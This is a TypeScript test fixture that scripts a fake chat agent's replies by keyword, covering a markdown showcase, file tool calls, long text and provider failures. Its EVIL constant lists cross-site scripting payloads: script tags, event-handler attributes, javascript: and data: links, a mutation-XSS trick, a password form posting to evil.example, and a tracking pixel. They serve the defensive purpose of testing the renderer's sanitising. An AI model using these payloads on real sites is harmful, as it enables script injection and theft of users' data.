/** What the fake agent does with a message, by the words in it. */

import type { Attachment } from "../../src/protocol";
import type { Act, Script } from "./conversation";

export const SHOWPIECE = `## What I found

The log has **three** kinds of entries; only \`retry\` is worth a look.

| Kind | Count | Share |
|:-----|------:|------:|
| ok | 1,204 | 96.1 % |
| retry | 41 | 3.3 % |
| failed | 8 | 0.6 % |

1. Read the file in one go, it is small.
2. Count by kind:
   - keep the order
   - ~~skip~~ count blank lines
3. Print the table.

\`\`\`python
from collections import Counter

def kinds(path: str) -> Counter[str]:
    """Count entries by their first word."""
    with open(path, encoding="utf-8") as lines:
        return Counter(line.split()[0] for line in lines if line.strip())  # a long comment that makes this line scroll sideways
\`\`\`

> Retries came in bursts, always within a minute of each other.

- [x] counted
- [ ] explained

See [the format](https://example.com/format) and ![a chart](https://example.com/chart.png).`;

/** Everything that must never run, leave the page, or be fetched. */
export const EVIL = `Fine words <script>window.pwned = 1</script> before.

<img src=x onerror="window.pwned = 2"> <svg onload="window.pwned = 3"><script>window.pwned = 4</script></svg>

<iframe src="javascript:parent.pwned = 5" srcdoc="<script>parent.pwned = 6</script>"></iframe>

<style>body { display: none !important }</style><link rel="stylesheet" href="https://evil.example/x.css">

<a href="javascript:window.pwned = 7">one</a> [two](javascript:window.pwned=8) [three](data:text/html,<script>alert(1)</script>)
[four](JaVaScRiPt:window.pwned=9) [five](vbscript:x) [six](#/chat/other) [seven](/api/sessions) <a href="java&#10;script:window.pwned=10">eight</a>

<form action="https://evil.example"><input name="password" autofocus onfocus="window.pwned=11"><button>Send</button></form>

<div style="position:fixed;inset:0;z-index:9999" onclick="window.pwned=12" id="app" class="page">over everything</div>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=13&gt;"></mglyph></table></mtext></math>

<details open ontoggle="window.pwned=14"><summary>more</summary>inside</details> <video src=x onerror="window.pwned=15"></video>

![track me](https://evil.example/pixel.png) <img src="https://evil.example/raw.png" alt="raw"> <base href="https://evil.example/">

\`\`\`"><script>window.pwned=16</script>
</code></pre><script>window.pwned = 17</script>
\`\`\`

</script><script>window.pwned = 18</script> after.`;

const LONG = Array.from(
  { length: 30 },
  (_, index) =>
    `Paragraph ${index + 1} goes on for a while, so that the page has to scroll and the view must follow it without a jerk.`,
).join("\n\n");

const call = (id: string, name: string, input: unknown): Act => ({ call: name, id, input });

function work(suffix: string): Act[] {
  return [
    { think: "The person wants both files compared. I read them first, then look for lines that differ." },
    { say: "I will read both files first." },
    call(`a${suffix}`, "FileRead", { file_path: "notes/monday.md" }),
    call(`b${suffix}`, "FileRead", { file_path: "notes/tuesday.md", limit: 200 }),
    { pause: 700 },
    { result: "# Monday\n\n- water the plants\n- call Ada\n", id: `a${suffix}` },
    { pause: 900 },
    { result: "the file does not exist", id: `b${suffix}`, error: true },
    { next: true },
    { say: "Tuesday is missing, so I make it from Monday." },
    call(`c${suffix}`, "FileWrite", {
      file_path: "notes/tuesday.md",
      content: "# Tuesday\n\n- water the plants\n- write to Ada\n",
    }),
    { pause: 1200 },
    { result: '{"written": 46, "path": "notes/tuesday.md"}', id: `c${suffix}` },
    { next: true },
    { say: "Done: `notes/tuesday.md` now has **two** entries, and only the second differs from Monday's." },
  ];
}

let turns = 0;

/** @param file what the word "file" hands over. */
export function scripts(file?: Attachment): Script {
  return (text) => {
    turns += 1;
    const suffix = `-${turns}`;
    if (text.includes("tools")) return work(suffix);
    if (text.includes("markdown")) return [{ say: SHOWPIECE }];
    if (text.includes("evil"))
      return [
        call(`x${suffix}`, "<b>Evil</b>", { path: EVIL }),
        { result: EVIL, id: `x${suffix}` },
        { next: true },
        { say: EVIL, pace: 2 },
      ];
    if (text.includes("long")) return [{ say: LONG, pace: 8 }];
    if (text.includes("slow")) return [{ say: LONG.slice(0, 1500), pace: 60 }];
    if (text.includes("big"))
      return [
        call(`g${suffix}`, "FileRead", { file_path: "big.txt" }),
        { result: "line of text\n".repeat(900), id: `g${suffix}` },
        { next: true },
        { say: "That was a lot." },
      ];
    if (text.includes("fail"))
      return [
        { say: "I begin, but" },
        { fail: "The provider hung up: 529 overloaded. Nothing is lost; try again in a minute." },
      ];
    if (text.includes("file") && file !== undefined) return [{ say: "Here it is." }, { file }];
    if (text.includes("wait"))
      return [
        { notice: "retrying", text: "The provider is busy; asking again in 3 s" },
        { pause: 3000 },
        { say: "Now." },
      ];
    return [{ say: `You said: ${text}` }];
  };
}
